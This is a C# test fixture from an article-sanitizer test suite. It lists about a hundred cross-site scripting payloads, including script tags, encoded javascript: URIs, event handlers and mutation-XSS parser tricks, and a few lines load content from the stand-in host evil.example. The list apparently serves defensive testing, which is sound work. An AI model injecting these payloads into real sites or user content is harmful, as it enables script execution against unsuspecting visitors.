namespace Distributor.Tests.Articles.Reading.Sanitizing;

/// <summary>Ways to smuggle code into an article: plain, encoded, and by confusing one parser with another (mXSS).</summary>
internal static class Attacks
{
    public static readonly string[] All = Lines(
        """"
        <script>alert(1)</script>Rain
        <SCRIPT SRC=//evil.example/x.js></SCRIPT>
        <scr<script>ipt>alert(1)</scr</script>ipt>
        <script>alert(1)//
        <img src=x onerror=alert(1)>
        <img src="javascript:alert(1)">
        <img src=`javascript:alert(1)` onerror=alert(1)>
        <img """><script>alert(1)</script>">
        <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
        <img srcset="javascript:alert(1) 1x, https://a.example/b.jpg 2x">
        <img srcset="https://a.example/b.jpg 1x, data:text/html,<script>alert(1)</script> 2x">
        <source srcset="javascript:alert(1)">
        <picture><source srcset="data:text/html;base64,PHNjcmlwdD4= 1x"><img src=https://a.example/b.jpg></picture>
        <a href="javascript:alert(1)">x</a>
        <a href="JaVaScRiPt:alert(1)">x</a>
        <a href=" &#14; javascript:alert(1)">x</a>
        <a href="java&#x09;script:alert(1)">x</a>
        <a href="java&NewLine;script&colon;alert(1)">x</a>
        <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
        <a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
        <a href="vbscript:msgbox(1)">x</a>
        <a href="data:text/html,<script>alert(1)</script>">x</a>
        <a href="//evil.example" onclick=alert(1)>x</a>
        <a href="https://a.example" style="position:fixed;top:0">x</a>
        <a href="view-source:javascript:alert(1)">x</a>
        <a href="blob:https://a.example/1">x</a>
        <a href="javascript&#58;alert(1)" title='"><img src=x onerror=alert(1)>'>x</a>
        <svg onload=alert(1)>
        <svg><script>alert(1)</script></svg>
        <svg><script href="data:,alert(1)"/></svg>
        <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
        <svg><animate attributeName=href values=javascript:alert(1) /></svg>
        <svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
        <svg></p><style><a title="</style><img src=x onerror=alert(1)>">
        <svg><style><img src=x onerror=alert(1)></style></svg>
        <svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
        <math><mi><table><mglyph><style><img src=x onerror=alert(1)>
        <math href="javascript:alert(1)">x</math>
        <math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
        <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
        <template><script>alert(1)</script></template>
        <template><img src=x onerror=alert(1)></template>
        <noscript><p title="</noscript><img src=x onerror=alert(1)>">
        <noscript><style></noscript><img src=x onerror=alert(1)></style>
        <noembed><img src=x onerror=alert(1)></noembed>
        <noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>
        <xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
        <plaintext><img src=x onerror=alert(1)>
        <textarea><img title="</textarea><img src=x onerror=alert(1)>">
        <title><img title="</title><img src=x onerror=alert(1)>"></title>
        <listing>&lt;img src=x onerror=alert(1)&gt;</listing>
        <iframe src="javascript:alert(1)"></iframe>
        <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
        <iframe><img title="</iframe><img src=x onerror=alert(1)>">
        <object data="javascript:alert(1)"></object>
        <embed src="javascript:alert(1)">
        <applet code=x></applet>
        <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
        <meta http-equiv=refresh content="0; url=https://evil.example">
        <base href="javascript:alert(1)//"><a href="x">x</a>
        <link rel=stylesheet href="https://evil.example/x.css">
        <link rel=import href="data:text/html,<script>alert(1)</script>">
        <style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>
        <div style="background:url('javascript:alert(1)')">x</div>
        <div style="width:expression(alert(1))">x</div>
        <div onmouseover="alert(1)" class=x id=location>x</div>
        <body onload=alert(1)><p>x</p>
        <form action="javascript:alert(1)"><input type=submit formaction="javascript:alert(1)"></form>
        <button formaction=javascript:alert(1)>x</button>
        <input autofocus onfocus=alert(1)>
        <select><style></select><img src=x onerror=alert(1)></style>
        <select><iframe><script>alert(1)</script>
        <details open ontoggle=alert(1)><summary>x</summary></details>
        <video><source onerror=alert(1)></video>
        <video poster="javascript:alert(1)" src="javascript:alert(1)"></video>
        <audio src=x onerror=alert(1)></audio>
        <marquee onstart=alert(1)>x</marquee>
        <isindex type=image src=1 onerror=alert(1)>
        <x onclick=alert(1) contenteditable>x</x>
        <p/onclick=alert(1)>x
        <p title=`"` onclick=alert(1)//>x
        <!--<img src="--><img src=x onerror=alert(1)//">
        <!--[if IE]><script>alert(1)</script><![endif]-->
        <!--!><img src=x onerror=alert(1)>-->
        <![CDATA[<script>alert(1)</script>]]>
        <?xml version="1.0"?><script>alert(1)</script>
        <<img src=x onerror=alert(1)//<
        <a href="https://a.example"><a href="javascript:alert(1)">x</a></a>
        <table><tr><td><a href=javascript:alert(1)>x</table>
        <table><style><img src=x onerror=alert(1)></style></table>
        <q cite="javascript:alert(1)">x</q>
        <blockquote cite="data:text/html,x">x</blockquote>
        <a ping="javascript:alert(1)" href="https://a.example">x</a>
        <p>&lt;script&gt;alert(1)&lt;/script&gt;</p>
        <p title="&lt;img src=x onerror=alert(1)&gt;">x</p>
        <img alt="</p><script>alert(1)</script>" src=https://a.example/b.jpg>
        <a href="https://a.example/&quot;onmouseover=alert(1)&quot;">x</a>
        <div><!-- --!><script>alert(1)</script> --></div>
        """"
    );

    private static string[] Lines(string text) => text.Split('\n', StringSplitOptions.RemoveEmptyEntries);
}
